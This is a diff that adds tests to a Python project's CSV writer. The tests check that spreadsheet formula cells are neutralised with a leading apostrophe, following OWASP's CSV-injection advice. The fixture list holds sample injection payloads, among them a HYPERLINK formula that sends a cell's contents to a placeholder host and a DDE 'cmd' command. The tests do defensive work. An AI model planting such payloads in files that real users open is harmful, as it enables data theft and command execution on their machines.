@@ -395,6 +395,46 @@ def test_cells_that_need_quoting_or_mixed_types_go_to_pandas(tmp_path, column, f
     assert (tmp_path / "a.csv").read_bytes() == (tmp_path / "b.csv").read_bytes()
 
 
+FORMULAS = ['=HYPERLINK("http://x.example/?"&A1,"t")', "+cmd|' /C calc'!A0", "-2+3+cmd",
+            "@SUM(A1:A9)"]
+
+
+@pytest.mark.parametrize("extra", [[], ["a,b"]], ids=["fast", "pandas"])
+def test_text_cells_a_spreadsheet_would_run_are_written_as_text(tmp_path, extra):
+    """OWASP's CSV-injection advice (issue 36): a text cell beginning with = + - @ gets a
+    leading ' ; numbers (also a negative number written as text) and other text stay."""
+    n = len(FORMULAS) + 4 + len(extra)
+    text = [*FORMULAS, "plain", "-1.5", None, "a-b", *extra]
+    frame = pd.DataFrame({
+        "label": pd.Series(text, dtype=object),
+        "v": np.linspace(-2.0, 1.0, n),
+        "k": np.arange(-3, n - 3),
+        "kind": pd.Categorical(["=cat", "ok"] * (n // 2) + ["ok"] * (n % 2)),
+    })
+    artifacts.write_csv(frame, tmp_path / "t.csv")
+    back = pd.read_csv(tmp_path / "t.csv", dtype=str, keep_default_na=False)
+    assert back["label"].tolist() == ["'" + f for f in FORMULAS] + [
+        "plain", "-1.5", "", "a-b", *extra]
+    assert back["v"].tolist() == [str(v) for v in frame["v"]]  # -2.0 stays -2.0
+    assert back["k"].tolist()[:3] == ["-3", "-2", "-1"]
+    assert set(back["kind"]) == {"'=cat", "ok"}
+    assert frame["label"].iloc[0] == FORMULAS[0]  # the caller's frame is left as it was
+
+
+def test_a_trial_label_that_is_a_formula_is_text_in_the_extracted_tables(tmp_path, cli):
+    sim = tmp_path / "sim"
+    assert cli("simulate-recording", "--quiet", "--out", sim,
+               "--set", "duration_s=10").exit_code == 0
+    recording = pd.read_csv(sim / "recording.csv")
+    recording["trial"] = recording["trial"].map({1: FORMULAS[0], 2: "2"})
+    recording.to_csv(tmp_path / "rec.csv", index=False)
+    result = cli("extract", "--quiet", "--data", tmp_path / "rec.csv", "--out", tmp_path / "ex")
+    assert result.exit_code == 0, result.output
+    impacts = pd.read_csv(tmp_path / "ex" / "impacts.csv", dtype=str)
+    assert set(impacts["trial"]) == {"'" + FORMULAS[0], "2"}
+    assert not any(str(c).startswith(("=", "+", "@")) for c in impacts.to_numpy().ravel())
+
+
 def test_every_committed_csv_is_rewritten_byte_for_byte(tmp_path):
     """The committed results stay byte-identical under the fast writer: each CSV read back and
     written again gives its own bytes."""
